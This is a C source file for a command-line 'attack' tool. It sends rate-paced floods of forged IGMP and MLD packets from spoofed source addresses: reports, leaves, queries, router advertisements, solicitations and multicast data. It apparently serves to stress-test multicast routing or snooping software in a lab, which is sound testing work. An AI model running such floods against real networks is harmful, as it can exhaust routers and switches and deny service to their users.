/* SPDX-License-Identifier: MIT */
/*
 * attack IF flood 4|6 KIND COUNT ADDRESSES RATE [GROUP]: COUNT reports from ADDRESSES forged hosts
 * in turn, RATE a second (0: as fast as it goes). KIND is
 *	groups   each report wants another group, behind GROUP
 *	sources  32 groups from GROUP on, four other sources of one of them each time
 *	members  all want GROUP
 *	leaves   all leave it
 * in the older version every third time; or
 *	queries  each is the querier;
 *	adverts  each is a multicast router (RFC 4286);
 *	discover each asks who is one.
 * The hosts are 10.128.0.0 and so on, or fe80::bad:0:0.
 *
 * attack IF data 4|6 COUNT SOURCES RATE GROUP: packets of data to it instead, from 10.128.0.0 and
 * so on, or fd09:0:0:bad::.
 *
 * When all is sent, or with SIGTERM before, it says how much, and how long it took. What it could
 *not send in time it does not make up for at once: no queue of this machine's is to overflow.
 */
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#include "attack.h"

enum { BATCH = 32, LATE = 10000 /* us */ };

struct flood {
	enum protocol protocol;
	char kind;
	uint32_t count, addresses, rate;
	struct addr group;
	void (*make)(const struct flood *, uint32_t number, struct frame *);
};

static int64_t clock_us(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return (int64_t)now.tv_sec * 1000000 + now.tv_nsec / 1000;
}

/* The address NUMBER behind BASE. */
static struct addr numbered(const struct addr *base, uint32_t number)
{
	struct addr address = *base;

	for (unsigned i = 15; number; i--) {
		number += address.byte[i];
		address.byte[i] = (uint8_t)number;
		number >>= 8;
	}
	return address;
}

static struct addr forged(const struct flood *flood, uint32_t number)
{
	static const struct addr igmp = {{[10] = 0xff, 0xff, 10, 128}},
				 mld = {{0xfe, 0x80, [10] = 0x0b, 0xad}};

	return numbered(flood->protocol == PROTOCOL_IGMP ? &igmp : &mld, number);
}

static void add_sources(struct record *record, uint32_t number)
{
	static const struct addr igmp = {{[10] = 0xff, 0xff, 198, 18}},
				 mld = {{0x20, 0x01, 0x0d, 0xb8, 0x0b, 0xad}};

	for (uint32_t i = 0; i < 4; i++) {
		struct addr source =
			numbered(addr_is_ipv4(&record->group) ? &igmp : &mld, 4 * number + i);

		list_add(&record->source, &source);
	}
}

static void make_report(const struct flood *flood, uint32_t number, struct frame *frame)
{
	struct parcel parcel = {
		.envelope = {.source = forged(flood, number % flood->addresses), .ttl = 1}};
	struct message *message = &parcel.message;
	uint32_t nth = flood->kind == 'g' ? number : flood->kind == 's' ? number % 32 : 0;
	struct addr group = numbered(&flood->group, nth);
	bool leaves = flood->kind == 'l';

	message->group = group;
	message->kind = KIND_REPORT;
	message->version = newest_version(flood->protocol);
	if (flood->kind == 'q') {
		message->kind = KIND_QUERY;
		message->group =
			flood->protocol == PROTOCOL_IGMP ? addr_ipv4(0) : (struct addr){{0}};
		message->response_code = 10;
	} else if (flood->kind == 'a' || flood->kind == 'd') {
		message->kind = flood->kind == 'a' ? KIND_ADVERTISEMENT : KIND_SOLICITATION;
		message->interval = 20;
	} else if (flood->kind == 's') {
		add_sources(codec_add(message, ALLOW, &group), number);
	} else if (number % 3) {
		codec_add(message, leaves ? TO_IN : TO_EX, &group);
	} else {
		message->kind = leaves ? KIND_LEAVE : KIND_OLD_REPORT;
		message->version--;
	}
	parcel_wrap(&parcel, flood->protocol, frame);
	codec_free(message);
}

static void make_data(const struct flood *flood, uint32_t number, struct frame *frame)
{
	static const struct addr mld = {{0xfd, 9, [7] = 0xad}};
	struct envelope envelope = {.destination = flood->group, .ttl = 16};

	envelope.source = flood->protocol == PROTOCOL_IGMP
				  ? forged(flood, number % flood->addresses)
				  : numbered(&mld, number % flood->addresses + 1);
	packet_data(frame, flood->protocol, &envelope, number);
}

static volatile sig_atomic_t enough;

static void on_signal(int number)
{
	(void)number;
	enough = 1;
}

/* Waits until what has been SENT is due by the rate, whose clock started at *START; who is late
 * starts it anew. */
static void keep_pace(const struct flood *flood, int64_t *start, uint32_t sent)
{
	int64_t ahead;

	if (!flood->rate)
		return;
	ahead = *start + (int64_t)sent * 1000000 / flood->rate - clock_us();
	if (ahead < -LATE)
		*start -= ahead;
	if (ahead > 0)
		nanosleep(&(struct timespec){ahead / 1000000, ahead % 1000000 * 1000}, NULL);
}

static void run(int fd, const struct flood *flood)
{
	static struct frame frame[BATCH];
	struct iovec part[BATCH];
	struct mmsghdr header[BATCH] = {{.msg_len = 0}};
	uint32_t sent = 0, refused = 0;
	int64_t start = clock_us(), pace = start, end;

	signal(SIGTERM, on_signal);
	while (sent < flood->count && !enough) {
		unsigned batch = 0;
		int done;

		while (batch < BATCH && sent + batch < flood->count) {
			flood->make(flood, sent + batch, &frame[batch]);
			part[batch] = (struct iovec){frame[batch].byte, frame[batch].length};
			header[batch].msg_hdr =
				(struct msghdr){.msg_iov = &part[batch], .msg_iovlen = 1};
			batch++;
		}
		done = sendmmsg(fd, header, batch, 0);
		if (done < 0 && errno != ENOBUFS && errno != EINTR)
			die("sendmmsg");
		refused += batch - (unsigned)(done < 0 ? 0 : done);
		sent += batch;
		keep_pace(flood, &pace, sent);
	}
	end = clock_us();
	printf("%u packets of %u addresses in %u.%03u s, %u not sent\n", sent, flood->addresses,
	       (unsigned)((end - start) / 1000000), (unsigned)((end - start) / 1000 % 1000),
	       refused);
}

void send_flood(int fd, int count, char **word)
{
	struct flood flood = {.make = make_report};

	if (count < 5 || count > 6)
		usage();
	flood.protocol = **word == '4' ? PROTOCOL_IGMP : PROTOCOL_MLD;
	flood.kind = *word[1];
	flood.count = take_number(word[2]);
	flood.addresses = take_number(word[3]);
	flood.rate = take_number(word[4]);
	flood.group = flood.protocol == PROTOCOL_IGMP ? addr_ipv4(0xee000000)
						      : (struct addr){{0xff, 0x15, [11] = 0xad}};
	if (count == 6)
		flood.group = take_address(word[5]);
	if (!strchr("gsmlqad", flood.kind) || !flood.addresses)
		usage();
	run(fd, &flood);
}

void send_data(int fd, int count, char **word)
{
	struct flood flood = {.make = make_data};

	if (count != 5)
		usage();
	flood.protocol = **word == '4' ? PROTOCOL_IGMP : PROTOCOL_MLD;
	flood.count = take_number(word[1]);
	flood.addresses = take_number(word[2]);
	flood.rate = take_number(word[3]);
	flood.group = take_address(word[4]);
	if (!flood.addresses)
		usage();
	run(fd, &flood);
}
